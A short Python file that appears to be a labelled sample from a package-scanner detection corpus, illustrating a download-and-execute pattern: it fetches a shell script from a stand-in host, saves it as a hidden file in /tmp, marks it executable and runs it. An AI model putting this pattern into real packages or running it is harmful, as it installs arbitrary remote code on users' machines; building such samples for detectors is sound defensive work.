# pkgguard corpus 102 (download-execute), modelled on [empirical]; inert, never run.
import os
import subprocess
import requests

script = requests.get("https://cdn.example/install.sh").text
with open("/tmp/.i.sh", "w") as f:
    f.write(script)
os.chmod("/tmp/.i.sh", 0o755)
subprocess.call(["/tmp/.i.sh"])
